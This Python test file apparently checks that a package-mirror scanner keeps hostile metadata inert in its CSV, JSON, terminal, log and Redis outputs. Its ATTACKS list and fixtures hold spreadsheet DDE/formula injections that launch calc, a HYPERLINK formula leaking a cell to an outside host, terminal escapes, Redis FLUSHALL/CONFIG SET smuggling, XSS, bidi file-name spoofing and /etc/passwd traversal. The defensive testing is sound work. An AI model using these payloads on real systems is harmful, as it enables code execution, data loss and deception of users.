#!/usr/bin/env python3
"""One mirror whose every name and text attacks whoever reads it: no spreadsheet, terminal, log,
JSON reader or Redis server takes any of it for more than text."""

import codecs
import csv
import io
import json
import os
import pty
import re
import sqlite3
import subprocess
import sys
import tempfile
import unittest
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent.parent
sys.path[:0] = [str(ROOT / "scripts"), str(ROOT / "tests" / "oracle")]
from mirror_recipe import Mirror, sdist_bytes  # noqa: E402
from redis_server import Server  # noqa: E402

from reports import WINNOW  # noqa: E402

csv.field_size_limit(sys.maxsize)

ATTACKS = [text if isinstance(text, bytes) else text.encode() for text in (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", " =1+1",
    "'=1+1", "a;=1+1;b", "a\t=1+1", "x,\"=1+1", "\uff1d1+1", "\x1b]0;owned\x07", "\x1b[2J\x1b[31mred",
    "\x9b31mred", "back\b\b\bspace", "\x7f\x00nul\x00", "x FLUSHALL", "*1\\r\\n$8\\r\\nFLUSHALL\\r\\n",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "](javascript:alert(1)) `x` ```",
    "\u202egpj.exe\u2066x\u2069\u200f", "line\u2028para\u2029graph", "\u0430pple", "%s%n%x {0}",
    b"\xed\xa0\x80 lone", b"\xed\xa0\xbd\xed\xb8\x80 pair", b"\xff\xfe\xc3", b"\xc0\xaf\xe2\x82",
    "../../etc/passwd", "a:b:projects", "*", "winnow:latest", "NULL", "\U0001f4a9" * 3, "--help",
)]
FOLDED = b"one\r\n FLUSHALL\r\n\tCONFIG SET dir /\r\n =1+1"  # a header's way to hold line ends
BIDI_AND_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
                               "\u2028\u2029]")
FORMULA = re.compile(r"[ ]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n\0]")
NUMBER = re.compile(r"-?[0-9][0-9.e+-]*\Z")


def wheel(name, version, fields, commands, members):
    """A wheel of bytes; `members` and `commands` may be called anything."""
    info = f"{name}-{version}.dist-info".encode()
    metadata = b"Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name.encode(), version.encode())
    metadata += b"".join(key + b": " + value + b"\n" for key, value in fields)
    files = {b"%s/__init__.py" % name.replace("-", "_").encode(): b"", **members,
             info + b"/METADATA": metadata + b"\n" + b"\n".join(ATTACKS),
             info + b"/WHEEL": b"Wheel-Version: 1.0\n",
             info + b"/entry_points.txt": b"[console_scripts]\n" + b"".join(
                 command + b" = a.b:c\n" for command in commands)}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, data in enumerate(files.values()):
            archive.writestr(zipfile.ZipInfo("%04d" % i + "x" * (len(list(files)[i]) - 4),
                                             (2020, 1, 1, 0, 0, 0)), data)
    packed = out.getvalue()
    for i, path in enumerate(files):  # names that zipfile would not write
        packed = packed.replace(b"%04d" % i + b"x" * (len(path) - 4), path)
    return packed


def member(attack):
    return attack.replace(b"/", b"|") + b"_member.txt"


def build(folder):
    """A tool, squats of its commands with attacks in all fields, files that are named by attacks."""
    mirror = Mirror(folder)
    commands = [b"trap-%d" % i for i in range(len(ATTACKS))]
    for version, day in (("1.0", "2019-01-01"), ("1.1", "2020-01-01")):
        mirror.add("toolbox", f"toolbox-{version}-py3-none-any.whl",
                   wheel("toolbox", version, [(b"Author-email", b"maker@tools.example")], commands,
                         {b"toolbox/code.py": b"import sys\nsys.exit(open('x').read())\n"}),
                   f"{day}T00:00:00Z")
    for i in range(30):
        mirror.add(f"user{i}", f"user{i}-1.0-py3-none-any.whl",
                   wheel(f"user{i}", "1.0", [(b"Requires-Dist", b"toolbox")], [],
                         {b"user/code.py": b"import sys\nsys.exit(open('%d').read())\n" % i}),
                   "2021-01-01T00:00:00Z")
    for i, attack in enumerate(ATTACKS):
        name, other = f"trap-{i}", ATTACKS[(i + 7) % len(ATTACKS)]
        summary = FOLDED if i % 9 == 5 else attack * (10 << 20 // len(attack)) if i == 0 else attack
        fields = [(b"Summary", summary), (b"Author", other), (b"Home-page", b"http://" + attack),
                  (b"Author-email", b'"%s" <a%d@evil.example>' % (attack.replace(b'"', b""), i)),
                  (b"Maintainer-email", attack.replace(b"@", b"") + b"@" +
                   (b"evil.example" if i % 3 else other.replace(b"@", b"") + b".example")),
                  (b"Project-URL", b"Source, https://" + other), (b"Keywords", attack),
                  (b"Requires-Dist", attack), (b"Dynamic", attack), (b"License", attack)]
        declared = [a for a in (attack, other) if not a.startswith((b"[", b"="))]
        mirror.add(name, f"trap_{i}-0.0.1-py3-none-any.whl",
                   wheel(f"trap_{i}", "0.0.1", fields, declared,
                         {member(attack): b"x", member(attack) + b"/": b""}),
                   f"2025-06-30T12:{i:02}:00Z", index_size=7 if i % 4 == 0 else None)
        mirror.owners[name] = [attack.decode("utf-8", "surrogateescape").replace("\udcff", "\ud800"),
                               "one-account"]
        mirror.summaries[name] = "\ud800" + attack.decode("latin-1")
        path = os.fsdecode(attack.replace(b"/", b"|").replace(b"\0", b""))
        for filename in (f"{path}-0.0.1-py3-none-any.whl", f"x{i}-{path}.tar.gz", f"{path}.zip"):
            mirror.add("unnamed", filename, sdist_bytes(f"x-{i}", [
                ("PKG-INFO", b"Name: " + attack + b"\nVersion: " + other + b"\n"),
                ("pyproject.toml", b"[project]\nname = " + attack)]) + bytes([i]),
                None, in_index=False)
    mirror.close()
    (mirror.web / "simple" / "unnamed" / "index.v1_json").write_text(json.dumps({
        "meta": {"api-version": "1.1"}, "name": "unnamed\ud800", "versions": ["=1"],
        "files": [{"filename": "gone-1.0-\ud800\x1b[2J=cmd.tar.gz", "yanked": "=cmd|\x1b[2J",
                   "url": "http://x.example/\u202e\ud83d", "hashes": {"sha256": "=cmd|"}},
                  {"filename": "=cmd|' '!A0-1.0.tar.gz", "url": "../../\x1b]0;\ud83d",
                   "upload-time": "=1", "size": "=1"}]}))


def in_csv(data):
    """How a cell shows bytes: U+FFFD for each that is no UTF-8, and the mark before a formula."""
    codecs.register_error("each", lambda error: ("\ufffd" * (error.end - error.start), error.end))
    text = data.decode("utf-8", "each").replace("\0", "\ufffd")
    marked = re.sub("(?<=[;\t\r\n])(?=[ \"]*[=+\\-@\uff1d\uff0b\uff0d\uff20])", "'", text)
    return ("'" if FORMULA.match(text) else "") + marked


class Outputs(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        folder = tempfile.TemporaryDirectory()
        cls.addClassCleanup(folder.cleanup)
        cls.folder = Path(folder.name)
        cls.server = Server()
        cls.addClassCleanup(cls.server.close)
        cls.server.client("SET", "sentinel", "here")
        build(cls.folder / "mirror")
        allow = cls.folder / "allow.csv"
        allow.write_bytes(b"trap-3,=cmd|' /C calc'!A0 \x1b]0;owned\x07 \xed\xa0\x80\n")
        words = [WINNOW, "sweep", cls.folder / "mirror", "--state", cls.folder / "state.db", "--out",
                 cls.folder / "runs", "--thorough", "--log-level", "debug", "--allow", allow,
                 "--redis", f"unix://{cls.server.path}"]
        cls.done = subprocess.run([str(word) for word in words], capture_output=True, timeout=300)
        if cls.done.returncode not in (0, 1):
            raise RuntimeError(cls.done.stderr.decode(errors="replace"))
        cls.run_folder = cls.folder / "runs" / "latest"

    def tables(self):
        for path in sorted(self.run_folder.glob("*.csv")):
            with open(path, encoding="utf-8", newline="") as file:
                yield path, list(csv.DictReader(file, strict=True))

    def table(self, name):
        return dict((path.stem, rows) for path, rows in self.tables())[name]

    def test_the_mirror_does_what_it_is_for(self):
        """The attacks reach all outputs: else nothing here is tested."""
        self.assertGreater(len(self.table("takedown")), 20)
        self.assertGreater(len(self.table("collisions")), 30)
        self.assertTrue(self.table("campaigns"))
        self.assertTrue(self.table("clusters"))
        self.assertTrue(list((self.run_folder / "osv").glob("*.json")))
        everything = b"".join(path.read_bytes() for path in self.run_folder.glob("*.csv"))
        for attack in ATTACKS:
            text = in_csv(attack).lstrip("'").replace('"', '""')
            self.assertTrue(text.encode() in everything or
                            attack.decode("latin-1").encode() in everything, attack)
        details = {row["code"] for row in self.table("anomalies")}
        self.assertLessEqual({"no-record", "size-mismatch", "name-mismatch",
                              "bad-toml", "zip-name-control"}, details)

    def test_spreadsheets_see_text(self):
        for path, rows in self.tables():
            data = path.read_bytes()
            data.decode("utf-8")
            self.assertNotIn(b"\0", data)
            for row in rows:
                self.assertNotIn(None, row, path.name)  # more cells than columns
                self.assertNotIn(None, row.values(), path.name)
                for column, cell in row.items():
                    if FORMULA.match(cell) and not NUMBER.match(cell):
                        self.fail(f"{path.name}.{column}: {cell[:60]!a}")
            # What splits at semicolons or tabs whatever it was told still keeps to the quotes.
            for separator in ";\t":
                with open(path, encoding="utf-8", newline="") as file:
                    for cells in csv.reader(file, delimiter=separator):
                        for cell in cells[1:]:
                            self.assertIsNone(FORMULA.match(cell), (path.name, separator, cell[:60]))

    def assert_json(self, text, name):
        """UTF-8 without a raw control, one value that other programs can write again."""
        text = text.decode("utf-8")
        self.assertNotRegex(text, BIDI_AND_CONTROLS, name)
        return json.dumps(json.loads(text), ensure_ascii=False).encode("utf-8")

    def test_json_is_json(self):
        lines = 0
        for path in sorted(self.run_folder.rglob("*.json*")):
            pieces = path.read_bytes()
            for line in pieces.splitlines() if path.suffix == ".jsonl" else [
                    pieces.replace(b"\n", b" ")]:
                self.assert_json(line, path.name)
                lines += 1
        self.assertGreater(lines, 40)

    def assert_plain(self, text, name):
        """What a terminal shows as it is: UTF-8, no control character but line ends."""
        for line in text.decode("utf-8").split("\n"):
            self.assertNotRegex(line, BIDI_AND_CONTROLS, name)

    def test_terminal_and_log_see_escapes(self):
        self.assert_plain(self.done.stdout, "summary")
        self.assert_plain(self.done.stderr, "log")
        for name in [*(f"trap-{i}" for i in range(len(ATTACKS))), "evil.example", "toolbox",
                     *(row["campaign_id"] for row in self.table("campaigns")),
                     *(row["cluster_id"] for row in self.table("clusters")),
                     *(row["domain"].lstrip("'") for row in self.table("domains")),
                     *(os.fsdecode(attack.replace(b"\0", b"")) for attack in ATTACKS)]:
            for more in ([], ["--json"]):
                done = subprocess.run([WINNOW, "explain", *more, "--out", self.folder / "runs",
                                       "--", name], capture_output=True, timeout=60)
                self.assertIn(done.returncode, (0, 1), done.stderr)
                self.assert_plain(done.stderr, name)
                if more:
                    self.assert_json(done.stdout.replace(b"\n", b" "), name)
                else:
                    self.assert_plain(done.stdout, name)

    def test_progress_on_a_terminal(self):
        """The only escape there is erases the line."""
        near, far = pty.openpty()
        done = subprocess.Popen([WINNOW, "sweep", self.folder / "mirror", "--state",
                                 self.folder / "tty.db", "--out", self.folder / "tty"],
                                stdout=far, stderr=far)
        os.close(far)
        shown = b""
        try:
            while piece := os.read(near, 65536):
                shown += piece
        except OSError:  # the other end is closed
            pass
        os.close(near)
        self.assertIn(done.wait(), (0, 1))
        self.assertIn(b"Run ", shown)
        self.assert_plain(shown.replace(b"\r\x1b[K", b"").replace(b"\r\n", b"\n").replace(
            b"\r", b""), "terminal")

    def test_redis_keeps_names_apart(self):
        client = self.server.client
        self.assertEqual(client("GET", "sentinel"), b"here")
        for command in (b"flushall", b"config", b"eval", b"del"):
            self.assertNotIn(b"cmdstat_" + command + b":", client("INFO", "commandstats"))
        run_id = os.readlink(self.run_folder)
        prefix = f"winnow:run:{run_id}".encode()
        self.assertEqual(client("GET", "winnow:latest").decode(), run_id)
        wanted = {b"sentinel", b"winnow:latest", b"winnow:runs", b"winnow:takedown:new", prefix}
        wanted |= {prefix + b":keys"} | {prefix + b":" + kind for kind in (
            b"domains", b"signatures", b"clusters", b"campaigns", b"takedown")}
        for kind, ids in (("cluster", [row["cluster_id"] for row in self.table("clusters")]),
                          ("campaign", [row["campaign_id"] for row in self.table("campaigns")])):
            wanted |= {f"{prefix.decode()}:{kind}:{name}{end}".encode() for name in ids
                       for end in ("", ":projects")}
        keys = set(client("KEYS", "*"))
        for kind, names in (("domain", [row["domain"] for row in self.table("domains")]), ("project", [
                row["project"] for name in ("takedown", "cluster_members", "campaign_members")
                for row in self.table(name)])):
            mine = {key for key in keys if key.startswith(b"%s:%s:" % (prefix, kind.encode()))}
            shown = [in_csv(key.split(b":", 4)[4]) for key in mine]
            self.assertEqual(sorted(shown), sorted(set(names)), kind)
            keys -= mine
        self.assertEqual(keys, wanted)
        self.assert_exact(client, prefix)

    def assert_exact(self, client, prefix):
        """Values are the bytes of the facts."""
        facts = sqlite3.connect(self.folder / "state.db")
        facts.text_factory = bytes
        seen = 0
        names = {name for name, in facts.execute("SELECT name FROM project")}
        kept = {key.split(b":", 4)[4] for key in client("KEYS", prefix + b":project:*")}
        self.assertLessEqual(kept, names)
        for name, summary in facts.execute(
                "SELECT p.name, a.summary FROM artifact a JOIN project p ON p.id = a.id >> 31"
                " WHERE p.name LIKE 'trap-%' AND a.version = '0.0.1'"):
            stored = client("HGET", prefix + b":project:" + name, "summary")
            if stored is not None:
                seen += 1
                self.assertEqual(stored, summary[:len(stored)], name)
                self.assertGreaterEqual(len(stored), min(len(summary), 4000), name)
        facts.close()
        self.assertGreater(seen, 20)


if __name__ == "__main__":
    unittest.main()
